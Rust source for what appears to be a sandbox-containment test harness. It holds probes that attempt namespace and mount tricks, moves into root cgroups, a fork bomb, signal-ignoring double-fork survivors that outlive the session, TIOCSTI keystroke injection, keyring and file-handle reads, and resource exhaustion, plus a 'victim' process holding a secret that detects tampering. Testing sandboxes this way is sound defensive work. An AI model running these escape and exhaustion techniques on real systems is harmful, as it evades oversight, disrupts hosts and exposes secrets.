            let mut p = [0i32; 2];
            if libc::pipe(p.as_mut_ptr()) != 0 {
                return result(false, "pipe");
            }
            #[repr(C)]
            struct FOwnerEx {
                kind: i32,
                pid: i32,
            }
            let owner = FOwnerEx { kind: 1, pid }; // F_OWNER_PID
            let own = libc::fcntl(p[0], 15, &raw const owner) == 0; // F_SETOWN_EX
            say(&format!("F_SETOWN_EX: {}", if own { "ok".to_string() } else { errno().to_string() }));
            let fl = libc::fcntl(p[0], libc::F_GETFL);
            let ok = own && libc::fcntl(p[0], libc::F_SETFL, fl | libc::O_ASYNC) == 0 && libc::write(p[1], b"x".as_ptr().cast(), 1) == 1;
            std::thread::sleep(std::time::Duration::from_millis(50));
            ok
        }
        _ => {
            say(&format!("signal-via: unknown method {how}"));
            return 2;
        }
    };
    result(ok, how)
}

#[cfg(target_os = "linux")]
unsafe fn userns(mode: &str) -> i32 {
    let mk = |p: &str| {
        let _ = std::fs::create_dir_all(p);
    };
    let token = std::env::args().find(|a| a.starts_with("lgtok")).unwrap_or_default();
    let src = c(&format!("lgmnt-{token}"));
    let tmpfs = c"tmpfs";
    match mode {
        "unshare-mount" => in_child_hold_on_success("unshare(NEWUSER|NEWNS) + mount tmpfs", || {
            if libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) != 0 {
                return false;
            }
            let r = libc::mount(src.as_ptr(), c"/tmp".as_ptr(), tmpfs.as_ptr(), 0, std::ptr::null());
            say(&format!("mount tmpfs: {}", if r == 0 { "ok".into() } else { errno().to_string() }));
            true
        }),
        "clone-nested" => in_child_hold_on_success("clone(NEWUSER) + nested unshare(NEWUSER)", || {
            let pid = libc::syscall(libc::SYS_clone, (libc::CLONE_NEWUSER | libc::SIGCHLD) as u64, 0usize, 0usize, 0usize, 0usize);
            if pid < 0 {
                return false;
            }
            if pid == 0 {
                let r = libc::unshare(libc::CLONE_NEWUSER);
                say(&format!("nested unshare: {}", if r == 0 { "ok".into() } else { errno().to_string() }));
                detach_stdio();
                linger();
            }
            true
        }),
        "clone3" => in_child_hold_on_success("clone3(CLONE_NEWUSER)", || {
            let mut args = [0u64; 11];
            args[0] = libc::CLONE_NEWUSER as u64;
            args[4] = libc::SIGCHLD as u64;
            let pid = libc::syscall(435, args.as_mut_ptr(), 88usize);
            if pid < 0 {
                return false;
            }
            if pid == 0 {
                detach_stdio();
                linger();
            }
            true
        }),
        "pivot-root" => in_child_hold_on_success("unshare + pivot_root", || {
            if libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) != 0 {
                return false;
            }
            let root = format!("/tmp/{token}-root");
            mk(&root);
            let r = libc::mount(src.as_ptr(), c(&root).as_ptr(), tmpfs.as_ptr(), 0, std::ptr::null());
            mk(&format!("{root}/old"));
            let p = libc::syscall(libc::SYS_pivot_root, c(&root).as_ptr(), c(&format!("{root}/old")).as_ptr());
            say(&format!("mount {r}, pivot_root {p}"));
            true
        }),
        "open-tree" => in_child_hold_on_success("unshare + open_tree + move_mount", || {
            if libc::unshare(libc::CLONE_NEWUSER | libc::CLONE_NEWNS) != 0 {
                return false;
            }
            let t = format!("/tmp/{token}-tree");
            mk(&t);
            let r = libc::mount(src.as_ptr(), c(&t).as_ptr(), tmpfs.as_ptr(), 0, std::ptr::null());
            let fd = libc::syscall(428, libc::AT_FDCWD, c(&t).as_ptr(), 1u32 /* OPEN_TREE_CLONE */);
            let m = libc::syscall(429, fd, c"".as_ptr(), libc::AT_FDCWD, c"/tmp".as_ptr(), 4u32 /* F_EMPTY_PATH */);
            say(&format!("mount {r}, open_tree {fd}, move_mount {m}"));
            true
        }),
        _ => 2,
    }
}

/// Moves this process into the root of every cgroup hierarchy it can write (cgroupfs is the
/// uid's own where nothing confines the filesystem), out of a per-run cgroup's limits.
fn leave_cgroups() {
    let me = std::process::id().to_string();
    let mut files = vec![std::path::PathBuf::from("/sys/fs/cgroup/cgroup.procs")];
    if let Ok(rd) = std::fs::read_dir("/sys/fs/cgroup") {
        files.extend(rd.flatten().map(|e| e.path().join("cgroup.procs")));
    }
    for f in files {
        if f.exists() {
            let r = std::fs::write(&f, &me);
            say(&format!("{} {}: {}", if r.is_ok() { "ESCAPED? left the cgroup for" } else { "blocked? could not move to" }, f.display(),
                r.map_or_else(|e| e.to_string(), |()| "ok".into())));
        }
    }
}

unsafe fn fork_bomb(n: u32) -> i32 {
    let mut made = 0;
    for _ in 0..n {
        let pid = libc::fork();
        if pid == 0 {
            detach_stdio();
            linger();
        }
        if pid < 0 {
            break;
        }
        made += 1;
    }
    say(&format!("forked {made} of {n}"));
    hold();
}

unsafe fn survivor(mode: &str) -> i32 {
    let pid = libc::fork();
    if pid == 0 {
        detach_stdio();
        libc::signal(libc::SIGHUP, libc::SIG_IGN);
        libc::signal(libc::SIGTERM, libc::SIG_IGN);
        libc::signal(libc::SIGINT, libc::SIG_IGN);
        match mode {
            "double-fork" | "double-fork-timeout" => {
                libc::setsid();
                if libc::fork() != 0 {
                    libc::_exit(0);
                }
            }
            _ => {
                libc::setsid();
            }
        }
        linger();
    }
    say(&format!("survivor {mode}: child {pid}"));
    if pid < 0 {
        return result(false, "fork");
    }
    // The survivor exists, detached, once a double fork's first child has exited (the grandchild
    // it forked is in the session it made), or once a setsid'd child leads its own group. Only
    // then is the attempt made, and said (the harness judges no run without it).
    let mut st = 0;
    let detached = if mode.starts_with("double-fork") {
        libc::waitpid(pid, &mut st, 0) == pid
    } else {
        (0..10_000).any(|i| {
            if i > 0 {
                std::thread::sleep(std::time::Duration::from_millis(1));
            }
            libc::getpgid(pid) == pid
        })
    };
    if detached {
        say(localgpt_corpus::DETACHED);
    }
    #[cfg(target_os = "linux")]
    if mode == "group-kill" {
        // SIGKILL this process's whole process group through a pidfd of the group's leader with
        // PIDFD_SIGNAL_PROCESS_GROUP (Linux 6.9; the kernel signals the group the pidfd's process
        // leads): bare, the harness started the probe in a group of its own; in a sandbox the
        // group is the one the command started in, which may be the supervisor's, which would
        // otherwise kill the child above at the command's exit. The child left the group above.
        let leader = libc::getpgrp();
        say(&format!("process group {leader}"));
        let fd = libc::syscall(libc::SYS_pidfd_open, leader, 0);
        let ok = fd >= 0 && libc::syscall(libc::SYS_pidfd_send_signal, fd, libc::SIGKILL, 0usize, 4u32) == 0; // PIDFD_SIGNAL_PROCESS_GROUP
        return result(ok, "pidfd_send_signal(pidfd of the group leader, SIGKILL, PIDFD_SIGNAL_PROCESS_GROUP)");
    }
    if mode.ends_with("timeout") {
        linger();
    }
    0
}

unsafe fn open_fds(n: u32) -> i32 {
    let mut rl = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
    libc::getrlimit(libc::RLIMIT_NOFILE, &mut rl);
    rl.rlim_cur = rl.rlim_max;
    libc::setrlimit(libc::RLIMIT_NOFILE, &rl);
    let mut opened = 0;
    for _ in 0..n {
        if libc::open(c"/dev/null".as_ptr(), libc::O_RDONLY) < 0 {
            break;
        }
        opened += 1;
    }
    say(&format!("opened {opened} of {n}"));
    detach_stdio();
    hold();
}

unsafe fn core_dump() -> i32 {
    let mut rl = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
    libc::getrlimit(libc::RLIMIT_CORE, &mut rl);
    rl.rlim_cur = rl.rlim_max;
    libc::setrlimit(libc::RLIMIT_CORE, &rl);
    #[cfg(target_os = "linux")]
    libc::prctl(libc::PR_SET_DUMPABLE, 1, 0, 0, 0);
    say(&format!("RLIMIT_CORE = {}", rl.rlim_cur));
    libc::signal(libc::SIGSEGV, libc::SIG_DFL);
    libc::raise(libc::SIGSEGV);
    1
}

/// Touches `mib` MiB of anonymous memory a page at a time, holds it `ms` milliseconds, and
/// prints how much it got (a memory limit kills it first). argv[0] of the probe carries the
/// world's token (its first argument), so the monitor samples its resident size.
fn memory_hog(mib: usize, ms: u64) -> i32 {
    let mut held: Vec<Vec<u8>> = Vec::new();
    for _ in 0..mib {
        let mut v = vec![0u8; 1 << 20];
        for i in (0..v.len()).step_by(4096) {
            v[i] = 1;
        }
        held.push(std::hint::black_box(v));
    }
    std::thread::sleep(std::time::Duration::from_millis(ms));
    say(&format!("held {} MiB", held.len()));
    0
}

fn write_flood(bytes: u64) -> i32 {
    let chunk = vec![b'A'; 65536];
    let mut left = bytes;
    let mut o = std::io::stdout().lock();
    while left > 0 {
        let n = left.min(chunk.len() as u64) as usize;
        if o.write_all(&chunk[..n]).is_err() {
            return 1;
        }
        left -= n as u64;
    }
    let _ = o.flush();
    0
}

unsafe fn write_big(path: &str, bytes: u64) -> i32 {
    libc::signal(libc::SIGXFSZ, libc::SIG_IGN);
    let fd = libc::open(c(path).as_ptr(), libc::O_WRONLY | libc::O_CREAT | libc::O_TRUNC, 0o644);
    if fd < 0 {
        return result(false, "open");
    }
    let chunk = vec![0u8; 1 << 20];
    let mut written: u64 = 0;
    while written < bytes {
        let n = libc::write(fd, chunk.as_ptr().cast(), chunk.len());
        if n <= 0 {
            say(&format!("write stopped at {written}: {}", errno()));
            return 1;
        }
        written += n as u64;
    }
    say(&format!("wrote {written}"));
    0
}

#[cfg(target_os = "linux")]
unsafe fn tiocsti(pty: &str, text: &str, high_bits: bool) -> i32 {
    let pid = libc::fork();
    if pid == 0 {
        libc::setsid();
        let fd = libc::open(c(pty).as_ptr(), libc::O_RDWR);
        if fd < 0 {
            say(&format!("open {pty}: {}", errno()));
            libc::_exit(1);
        }
        let req: u64 = if high_bits { 0xffff_ffff_0000_0000 | 0x5412 } else { 0x5412 };
        let mut ok = true;
        for b in text.bytes() {
            if libc::syscall(libc::SYS_ioctl, fd, req, &b as *const u8) != 0 {
                ok = false;
                break;
            }
        }
        libc::_exit(result(ok, "ioctl(TIOCSTI)"));
    }
    let mut st = 0;
    libc::waitpid(pid, &mut st, 0);
    libc::WEXITSTATUS(st)
}

#[cfg(target_os = "linux")]
unsafe fn tioclinux_kmsg(console: u8, high_bits: bool) -> i32 {
    let fd = libc::open(c"/dev/tty0".as_ptr(), libc::O_RDWR | libc::O_NOCTTY);
    if fd < 0 {
        return result(false, "open /dev/tty0");
    }
    let buf = [11u8 /* TIOCL_SETKMSGREDIRECT */, console];
    let req: u64 = if high_bits { 0xffff_ffff_0000_0000 | 0x541C } else { 0x541C };
    result(libc::syscall(libc::SYS_ioctl, fd, req, buf.as_ptr()) == 0, "ioctl(TIOCLINUX, SETKMSGREDIRECT)")
}

/// `/dev/loop-control` opened read-only, then `ioctl(LOOP_CTL_ADD, nr)`: the driver checks no
/// capability, so only the device node's mode and Landlock's `ioctl_dev` stand in the way.
#[cfg(target_os = "linux")]
unsafe fn loop_add(nr: u64) -> i32 {
    let fd = libc::open(c"/dev/loop-control".as_ptr(), libc::O_RDONLY | libc::O_CLOEXEC);
    if fd < 0 {
        return result(false, "open /dev/loop-control");
    }
    result(libc::ioctl(fd, 0x4C80, nr as libc::c_ulong) >= 0, "ioctl(LOOP_CTL_ADD)")
}

#[cfg(target_os = "linux")]
unsafe fn keyring_read(desc: &str) -> i32 {
    let id = libc::syscall(libc::SYS_keyctl, 10 /* SEARCH */, -4i64 /* USER */, c"user".as_ptr(), c(desc).as_ptr(), 0);
    if id < 0 {
        return result(false, "keyctl(KEYCTL_SEARCH)");
    }
    let mut buf = [0u8; 256];
    let n = libc::syscall(libc::SYS_keyctl, 11 /* READ */, id, buf.as_mut_ptr(), buf.len());
    if n > 0 {
        say(&format!("key: {}", String::from_utf8_lossy(&buf[..(n as usize).min(256)])));
    }
    result(n > 0, "keyctl(KEYCTL_READ)")
}

#[cfg(target_os = "linux")]
unsafe fn open_by_handle(path: &str, mount_dir: &str) -> i32 {
    #[repr(C)]
    struct Fh { bytes: u32, ty: i32, h: [u8; 128] }
    let mut fh = Fh { bytes: 128, ty: 0, h: [0; 128] };
    let mut mount_id = 0i32;
    if libc::syscall(libc::SYS_name_to_handle_at, libc::AT_FDCWD, c(path).as_ptr(), &mut fh as *mut Fh, &mut mount_id as *mut i32, 0) != 0 {
        return result(false, "name_to_handle_at");
    }
    let mfd = libc::open(c(mount_dir).as_ptr(), libc::O_RDONLY | libc::O_DIRECTORY);
    let fd = libc::syscall(libc::SYS_open_by_handle_at, mfd, &mut fh as *mut Fh, libc::O_RDONLY) as i32;
    if fd < 0 {
        return result(false, "open_by_handle_at");
    }
    let mut buf = [0u8; 4096];
    let n = libc::read(fd, buf.as_mut_ptr().cast(), buf.len());
    if n > 0 {
        say(&format!("read by handle: {}", String::from_utf8_lossy(&buf[..n as usize])));
    }
    result(n > 0, "read by handle")
}

// ---------------------------------------------------------------------------------------------
// The victim: an unsandboxed ancestor of the command, standing for the runner, the supervisor
// and any other same-uid process outside. It watches its own memory and records signals.
// ---------------------------------------------------------------------------------------------

static SIGNALS: AtomicU32 = AtomicU32::new(0);

extern "C" fn on_signal(sig: libc::c_int) {
    SIGNALS.fetch_or(1 << (sig as u32 & 31), Ordering::SeqCst);
}

/// Marker the victim keeps in memory (probes overwrite its first 8 bytes).
pub const VICTIM_MARKER: &[u8; 32] = b"LGVICTIM-INTACT-0123456789abcdef";

/// `__victim STATUS_FILE -- CMD…`: runs CMD (with `@VICTIM_*@` substituted) as its child,
/// watches its marker, and writes `tampered=<0|1> signals=<mask>` to STATUS_FILE when CMD ends.
/// Environment: `LG_VICTIM_API_TOKEN` holds the secret it keeps in memory.
#[must_use]
pub fn victim_main(args: &[String]) -> i32 {
    let Some(status_file) = args.first() else { return 2 };
    let cmd: Vec<String> = args.iter().skip_while(|a| *a != "--").skip(1).cloned().collect();
    if cmd.is_empty() {
        return 2;
    }
    let marker: Box<[u8; 32]> = Box::new(*VICTIM_MARKER);
    let secret = std::env::var("LG_VICTIM_API_TOKEN").unwrap_or_default();
    let mut secret_buf = Box::new([0u8; 64]);
    for (i, b) in secret.bytes().take(63).enumerate() {
        secret_buf[i] = b;
    }
    // SAFETY: plain syscalls on this process.
    unsafe {
        #[cfg(target_os = "linux")]
        {
            libc::prctl(libc::PR_SET_PTRACER, libc::PR_SET_PTRACER_ANY, 0, 0, 0);
            libc::prctl(libc::PR_SET_DUMPABLE, 1, 0, 0, 0);
        }
        for sig in [libc::SIGTERM, libc::SIGINT, libc::SIGHUP, libc::SIGUSR1, libc::SIGUSR2, libc::SIGQUIT] {
            libc::signal(sig, on_signal as *const () as libc::sighandler_t);
        }
    }
    let me = std::process::id().to_string();
    let maddr = (marker.as_ptr() as usize).to_string();
    let saddr = (secret_buf.as_ptr() as usize).to_string();
    let argv: Vec<String> = cmd
        .iter()
        .map(|a| a.replace("@VICTIM_PID@", &me).replace("@VICTIM_MARKER@", &maddr).replace("@VICTIM_SECRET@", &saddr))
        .collect();
    let limits_at_start = own_limits();
    let mut child = match std::process::Command::new(&argv[0]).args(&argv[1..]).spawn() {
        Ok(c) => c,
        Err(e) => {
            eprintln!("victim: spawn {}: {e}", argv[0]);
            return 2;
        }
    };
    let mut tampered = false;
    let code = loop {
        // SAFETY: volatile read of our own heap buffer that another process may write.
        let now: [u8; 32] = unsafe { std::ptr::read_volatile(marker.as_ptr().cast::<[u8; 32]>()) };
        tampered |= &now != VICTIM_MARKER;
        match child.try_wait() {
            Ok(Some(st)) => {
                use std::os::unix::process::ExitStatusExt;
                break st.code().unwrap_or_else(|| 128 + st.signal().unwrap_or(0));
            }
            Ok(None) => std::thread::sleep(std::time::Duration::from_millis(2)),
            Err(_) => break 125,
        }
    };
    // SAFETY: as above.
    let now: [u8; 32] = unsafe { std::ptr::read_volatile(marker.as_ptr().cast::<[u8; 32]>()) };
    tampered |= &now != VICTIM_MARKER;
    let limits = u8::from(own_limits() != limits_at_start);
    let _ = std::fs::write(status_file, format!("tampered={} signals={} limits={limits}\n", u8::from(tampered), SIGNALS.load(Ordering::SeqCst)));
    std::hint::black_box(&secret_buf);
    code
}

/// The victim's own resource limits (soft, hard) for every resource the platform numbers below
/// 16, then its scheduling policy, nice value and I/O priority: a probe that changes them from
/// outside (`prlimit64`, `setpriority`, `sched_setscheduler`, `ioprio_set` on another process)
/// is seen.
fn own_limits() -> Vec<(u64, u64)> {
    #[cfg_attr(not(target_os = "linux"), allow(unused_mut))]
    let mut v: Vec<(u64, u64)> = (0..16)
        .map(|r| {
            let mut l = libc::rlimit { rlim_cur: 0, rlim_max: 0 };
            // SAFETY: getrlimit on this process into a local struct; an unknown resource fails.
            let ok = unsafe { libc::getrlimit(r as _, &mut l) } == 0;
            if ok { (l.rlim_cur, l.rlim_max) } else { (u64::MAX, 0) }
        })
        .collect();
    #[cfg(target_os = "linux")]
    // SAFETY: queries about this process (a failure is a value like any other: compared only).
    unsafe {
        let nice = libc::getpriority(libc::PRIO_PROCESS, 0);
        v.push((libc::sched_getscheduler(0) as u64, nice as u64));
        // ioprio_get(IOPRIO_WHO_PROCESS, 0)
        v.push((libc::syscall(libc::SYS_ioprio_get, 1, 0) as u64, 0));
    }
    v
}

#[cfg(all(target_os = "linux", target_arch = "x86_64"))]
/// i386 `getpid` through `int 0x80` (precondition check for the ia32 vectors).
///
/// # Safety
/// Raw system call; may fault where IA32 emulation is disabled (call it in a child).
#[must_use]
pub unsafe fn int80_getpid() -> i32 {
    ia32::int80(20, 0, 0, 0)
}
